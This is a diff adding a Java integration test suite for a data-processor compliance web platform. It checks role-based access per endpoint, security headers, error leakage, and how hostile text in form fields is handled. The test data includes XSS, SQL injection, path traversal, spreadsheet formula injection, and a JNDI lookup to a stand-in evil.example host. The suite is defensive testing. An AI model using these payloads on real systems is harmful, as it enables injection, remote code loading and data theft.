@@ -1,0 +1,311 @@
+package eu.art28.platform.boundary;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.io.IOException;
+import java.net.MalformedURLException;
+import java.net.URL;
+import java.net.http.HttpHeaders;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+
+import jakarta.json.JsonObject;
+
+import org.jboss.arquillian.container.test.api.Deployment;
+import org.jboss.arquillian.container.test.api.RunAsClient;
+import org.jboss.arquillian.junit5.ArquillianExtension;
+import org.jboss.arquillian.test.api.ArquillianResource;
+import org.jboss.shrinkwrap.api.spec.WebArchive;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+
+import eu.art28.testing.Api;
+import eu.art28.testing.Browser;
+import eu.art28.testing.Deployments;
+
+/**
+ * Who may call what, as docs/security.md states it endpoint by endpoint: every endpoint the OpenAPI document
+ * describes must have its row there, and answers each role and an anonymous caller as the row says. A new
+ * endpoint without a row fails here, so does a row for an endpoint that is gone.
+ */
+@ExtendWith(ArquillianExtension.class)
+@RunAsClient
+class SecurityIT {
+
+    static final List<String> ROLES = List.of("PROCUREMENT", "LEGAL", "MANAGER", "ADMIN", "AUDITOR");
+    static final Pattern ROW = Pattern.compile("^\\| (GET|POST|PUT|DELETE|PATCH) \\| `([^`]+)` \\| ([^|]+) \\|");
+
+    @Deployment(testable = false)
+    static WebArchive deployment() {
+        return Deployments.app();
+    }
+
+    @ArquillianResource
+    URL base;
+
+    /** The rows of the endpoint table in docs/security.md: "GET /api/processors" → the roles, "any" for all five. */
+    static Map<String, Set<String>> matrix() throws IOException {
+        Map<String, Set<String>> rows = new LinkedHashMap<>();
+        for (String line : Files.readAllLines(Path.of("docs", "security.md"), StandardCharsets.UTF_8)) {
+            Matcher row = ROW.matcher(line);
+            if (row.find()) {
+                String roles = row.group(3).strip();
+                rows.put(row.group(1) + " " + row.group(2), roles.equals("any") ? Set.copyOf(ROLES)
+                        : Set.copyOf(Arrays.stream(roles.split(",")).map(String::strip).toList()));
+            }
+        }
+        return rows;
+    }
+
+    /** An address the path can be called at: ids and codes nobody has, so that nothing is changed. */
+    static String concrete(String path) {
+        return path.replaceAll("\\{kind[^}]*\\}", "purposes").replaceAll("\\{code[^}]*\\}", "zz-none")
+                .replaceAll("\\{[^}]+\\}", "987654321").substring(1);
+    }
+
+    @Test
+    void everyEndpointAnswersEveryRoleAsTheMatrixSays() throws IOException {
+        Api api = new Api(base);
+        JsonObject paths = new Api(new URL(base, "/")).get("openapi", null).json().getJsonObject("paths");
+        Map<String, Set<String>> matrix = matrix();
+        List<String> wrong = new ArrayList<>();
+        List<String> seen = new ArrayList<>();
+        paths.forEach((documented, operations) -> operations.asJsonObject().keySet().stream()
+                .filter(m -> Set.of("get", "post", "put", "delete", "patch").contains(m)).forEach(m -> {
+                    // a parameter with a pattern, {kind: purposes|data-categories}, is named by its name alone
+                    String path = documented.replaceAll("\\{(\\w+):[^}]*\\}", "{$1}");
+                    String endpoint = m.toUpperCase() + " " + path;
+                    JsonObject operation = operations.asJsonObject().getJsonObject(m);
+                    String type = operation.containsKey("requestBody") ? operation.getJsonObject("requestBody")
+                            .getJsonObject("content").keySet().iterator().next() : "application/json";
+                    seen.add(endpoint);
+                    Set<String> allowed = matrix.get(endpoint);
+                    if (allowed == null) {
+                        wrong.add(endpoint + ": no row in docs/security.md");
+                        return;
+                    }
+                    boolean withBody = !m.equals("get") && !m.equals("delete");
+                    String address = concrete(path);
+                    int anonymous = api.send(m.toUpperCase(), address, null, type,
+                            withBody ? body(api, endpoint, null) : null).status();
+                    if (anonymous != 401) {
+                        wrong.add(endpoint + " anonymous: " + anonymous);
+                    }
+                    for (String role : ROLES) {
+                        String user = role.toLowerCase();
+                        Api.Reply reply = api.send(m.toUpperCase(), address, user, type,
+                                withBody ? body(api, endpoint, user) : null);
+                        boolean may = allowed.contains(role);
+                        if (may ? reply.status() == 401 || reply.status() == 403 || reply.status() >= 500
+                                : reply.status() != 403) {
+                            wrong.add(endpoint + " " + role + ": " + reply.status()
+                                    + (reply.status() >= 500 ? " " + reply.body() : ""));
+                        }
+                    }
+                }));
+        matrix.keySet().stream().filter(row -> !seen.contains(row))
+                .forEach(row -> wrong.add(row + ": in docs/security.md but not in the OpenAPI document"));
+        assertEquals(List.of(), wrong);
+        assertTrue(seen.size() >= 50, "the document describes the whole API: " + seen.size());
+    }
+
+    /** The profile is the caller's own: sent back as it is, so that walking the matrix changes nobody's. */
+    private static byte[] body(Api api, String endpoint, String user) {
+        if (endpoint.equals("PUT /api/profile") && user != null) {
+            return api.get("api/profile", user).bytes();
+        }
+        return "{}".getBytes(StandardCharsets.UTF_8);
+    }
+
+    @Test
+    void everyResponseCarriesTheProtectiveHeaders() throws MalformedURLException {
+        Api api = new Api(base);
+        for (String path : List.of("login.xhtml", "api/processors")) {
+            HttpHeaders headers = api.headers(path, path.startsWith("api") ? "auditor" : null);
+            List<String> policies = headers.allValues("Content-Security-Policy");
+            assertTrue(policies.stream().anyMatch(p -> p.contains("frame-ancestors 'none'")), path + ": " + policies);
+            assertEquals(List.of("nosniff"), headers.allValues("X-Content-Type-Options"), path);
+            assertEquals(List.of("DENY"), headers.allValues("X-Frame-Options"), path);
+            assertEquals(List.of("same-origin"), headers.allValues("Referrer-Policy"), path);
+            assertTrue(headers.firstValue("Strict-Transport-Security").isEmpty(), "HSTS only over https");
+            headers.map().forEach((name, values) -> assertFalse(values.toString().matches(".*\\d+\\.\\d+\\.\\d+.*")
+                    && (name.equalsIgnoreCase("server") || name.equalsIgnoreCase("x-powered-by")),
+                    "no version in " + name + ": " + values));
+        }
+        List<String> page = api.headers("login.xhtml", null).allValues("Content-Security-Policy");
+        assertTrue(page.stream().anyMatch(p -> p.matches(".*script-src 'self' 'nonce-[^']+'.*")),
+                "PrimeFaces guards the page's scripts with a nonce: " + page);
+    }
+
+    @Test
+    void errorsTellNothingAboutTheServer() {
+        Api api = new Api(base);
+        for (Api.Reply reply : List.of(api.get("api/processors/not-a-number", "auditor"),
+                api.get("api/no-such-resource", "auditor"),
+                api.post("api/processors", "procurement", "{\"name\": "))) {
+            assertTrue(reply.status() >= 400 && reply.status() < 500, reply::toString);
+            assertFalse(reply.body().matches("(?s).*(Exception|\\tat |Payara|GlassFish|Jersey|EclipseLink).*"),
+                    () -> "leaks: " + reply);
+        }
+    }
+
+    /** What an attacker or a careless paste puts into a text field. */
+    static final List<String> HOSTILE = List.of(
+            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
+            "javascript:alert(1)", "' OR '1'='1", "'; DROP TABLE processor; --", "1); DELETE FROM account; --",
+            "\u202Egnp.exe\u202C", "a\u0000b", "\u0007bell\u001b[31mred", "=HYPERLINK(\"http://evil.example\")",
+            "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "../../../etc/passwd", "..\\..\\windows\\win.ini",
+            "%00%2e%2e%2f", "\uD83D\uDE00 \u00FCn\u00EFc\u00F6d\u00E9 \u00DF", "${jndi:ldap://evil.example/a}",
+            "#{7*7}", "{{7*7}}", "\r\nSet-Cookie: x=y", "x".repeat(1_000_000), "", "   ");
+
+    /** One text field of one resource: where it is created, how, and where the stored value is read back. */
+    record Field(String collection, String field, String template, String pointer) {
+    }
+
+    private static String json(String value) {
+        return jakarta.json.Json.createValue(value).toString();
+    }
+
+    @Test
+    void hostileTextIsRefusedNamingItsFieldOrStoredLiterally() {
+        Api api = new Api(base);
+        long processor = api.post("api/processors", "procurement", "{\"name\":\"Hostile target %s\",\"country\":\"NL\"}"
+                .formatted(Api.freshKvk())).json().getJsonNumber("id").longValue();
+        String today = java.time.LocalDate.now().toString();
+        List<Field> fields = List.of(
+                new Field("processors", "name", "{\"name\":%s,\"country\":\"NL\"}", "/name"),
+                new Field("processors", "address", "{\"name\":\"Addr %s\",\"country\":\"NL\",\"address\":%s}", "/address"),
+                new Field("processors", "website", "{\"name\":\"Web %s\",\"country\":\"NL\",\"website\":%s}", "/website"),
+                new Field("processors", "services", "{\"name\":\"Svc %s\",\"country\":\"NL\",\"services\":[%s]}",
+                        "/services/0"),
+                new Field("processors", "contacts", "{\"name\":\"Contact %s\",\"country\":\"NL\",\"contacts\":[{\"name\":%s,"
+                        + "\"email\":\"a@example.nl\"}]}", "/contacts/0/name"),
+                new Field("engagements", "description", "{\"processorId\":" + processor + ",\"description\":%s,"
+                        + "\"businessOwner\":\"Sales\",\"purposes\":[\"e\"],\"dataCategories\":[\"contact\"],"
+                        + "\"dataSubjects\":[\"customers\"],\"countries\":[\"NL\"],\"startsOn\":\"" + today + "\"}",
+                        "/description"),
+                new Field("engagements", "businessOwner", "{\"processorId\":" + processor + ",\"description\":\"d\","
+                        + "\"businessOwner\":%s,\"purposes\":[\"e\"],\"dataCategories\":[\"contact\"],"
+                        + "\"dataSubjects\":[\"customers\"],\"countries\":[\"NL\"],\"startsOn\":\"" + today + "\"}",
+                        "/businessOwner"),
+                new Field("evidence", "issuer", "{\"processorId\":" + processor + ",\"type\":\"PENTEST_REPORT\","
+                        + "\"issuer\":%s,\"scope\":\"All\",\"issuedOn\":\"" + today + "\"}", "/issuer"),
+                new Field("evidence", "scope", "{\"processorId\":" + processor + ",\"type\":\"PENTEST_REPORT\","
+                        + "\"issuer\":\"Tester\",\"scope\":%s,\"issuedOn\":\"" + today + "\"}", "/scope"),
+                new Field("agreements", "reference", "{\"processorId\":" + processor + ",\"reference\":%s}",
+                        "/reference"),
+                new Field("catalogue/data-subjects", "nameEn", "{\"code\":\"h%s\",\"nameNl\":\"Naam\","
+                        + "\"nameEn\":%s}", "/nameEn"),
+                new Field("catalogue/data-subjects", "descriptionEn", "{\"code\":\"h%s\",\"nameNl\":\"Naam\","
+                        + "\"nameEn\":\"Name\",\"descriptionEn\":%s}", "/descriptionEn"));
+        List<String> wrong = new ArrayList<>();
+        int cases = 0;
+        for (Field field : fields) {
+            String user = field.collection().startsWith("catalogue") ? "admin" : "procurement";
+            for (String value : HOSTILE) {
+                cases++;
+                boolean marked = field.template().indexOf("%s") != field.template().lastIndexOf("%s");
+                String body = marked ? field.template().formatted(Api.freshKvk(), json(value))
+                        : field.template().formatted(json(value));
+                int before = total(api, field.collection());
+                Api.Reply reply = api.post("api/" + field.collection(), user, body);
+                String label = field.collection() + "." + field.field() + " <- " + shown(value) + ": ";
+                if (reply.status() >= 500) {
+                    wrong.add(label + reply.status());
+                } else if (reply.status() >= 400) {
+                    if (!reply.contentType().startsWith("application/problem+json")
+                            || !reply.body().contains("\"field\":\"" + field.field())) {
+                        wrong.add(label + reply.status() + " without naming the field: " + shown(reply.body()));
+                    }
+                    if (total(api, field.collection()) != before) {
+                        wrong.add(label + "refused, yet stored");
+                    }
+                } else {
+                    JsonObject stored = api.get(reply.location().substring(reply.location().indexOf("/api/") + 1), "auditor").json();
+                    String back = pointer(stored, field.pointer());
+                    String expected = value.strip().isEmpty() ? null : value.strip();
+                    if (!java.util.Objects.equals(expected, back)) {
+                        wrong.add(label + "stored as " + shown(back));
+                    }
+                }
+            }
+        }
+        assertEquals(List.of(), wrong);
+        assertTrue(cases >= 200, "at least 200 hostile inputs: " + cases);
+    }
+
+    /** The value at the pointer; null when JSON-B left the field out (it omits nulls). */
+    private static String pointer(JsonObject object, String pointer) {
+        jakarta.json.JsonPointer at = jakarta.json.Json.createPointer(pointer);
+        if (!at.containsValue(object)) {
+            return null;
+        }
+        jakarta.json.JsonValue value = at.getValue(object);
+        return value instanceof jakarta.json.JsonString s ? s.getString() : String.valueOf(value);
+    }
+
+    private static int total(Api api, String collection) {
+        String list = collection.startsWith("catalogue") ? "api/" + collection
+                : "api/" + collection + "?size=1";
+        Api.Reply reply = api.get(list, "auditor");
+        return collection.startsWith("catalogue") ? reply.structure().asJsonArray().size()
+                : reply.json().getInt("total");
+    }
+
+    private static String shown(String value) {
+        if (value == null) {
+            return "null";
+        }
+        String visible = value.length() > 60 ? value.substring(0, 60) + "…(" + value.length() + ")" : value;
+        return visible.chars().mapToObj(c -> c < 32 ? "\\u%04x".formatted(c) : String.valueOf((char) c))
+                .reduce("", String::concat);
+    }
+
+    /** Sets a flag when it runs; each field carries another variant, so a failure names the way in. */
+    static String payload(String field) {
+        return "<img src=x onerror=\"window.xss='" + field + "'\"><script>window.xss='" + field + "'</script>";
+    }
+
+    @Test
+    void noScriptStoredInAFreeTextFieldRunsOnAnyPage() {
+        Api api = new Api(base);
+        Api.Reply processor = api.post("api/processors", "procurement", """
+                {"name":%s,"country":"NL","address":%s,"services":[%s],"riskTier":"LOW",
+                 "contacts":[{"name":%s,"role":%s,"email":"xss@example.nl","phone":"+31 20 123 4567"}]}"""
+                .formatted(json(payload("name") + Api.freshKvk()), json(payload("address")), json(payload("service")),
+                        json(payload("contact")), json(payload("role"))));
+        assertEquals(201, processor.status(), processor::toString);
+        long id = processor.json().getJsonNumber("id").longValue();
+        Api.Reply agreement = api.post("api/agreements", "procurement", """
+                {"processorId":%d,"reference":%s,"purposes":["e"],"dataCategories":["contact"],
+                 "dataSubjects":["customers"],"countries":["NL"],
+                 "checklist":[{"clause":"A_INSTRUCTIONS","present":true,"reference":%s,"note":%s},
+                              {"clause":"B_CONFIDENTIALITY","present":false,"waiverReason":%s}]}"""
+                .formatted(id, json(payload("reference")), json(payload("clause")),
+                        json(payload("note")), json(payload("waiver"))));
+        assertEquals(201, agreement.status(), agreement::toString);
+        long agreementId = agreement.json().getJsonNumber("id").longValue();
+
+        try (Browser browser = new Browser(base, "en")) {
+            browser.open("login.xhtml").logIn("procurement", Api.PASSWORD);
+            for (String page : List.of("processors/list.xhtml", "processors/view.xhtml?id=" + id,
+                    "processors/edit.xhtml?id=" + id, "agreements/list.xhtml?processorId=" + id,
+                    "agreements/view.xhtml?id=" + agreementId, "agreements/edit.xhtml?id=" + agreementId)) {
+                browser.open(page);
+                assertTrue(browser.pageText().contains("onerror"), () -> page + " shows the payload as text");
+                assertEquals(null, browser.script("return window.xss || null;"), () -> page + " ran a script");
+            }
+        }
+    }
+}
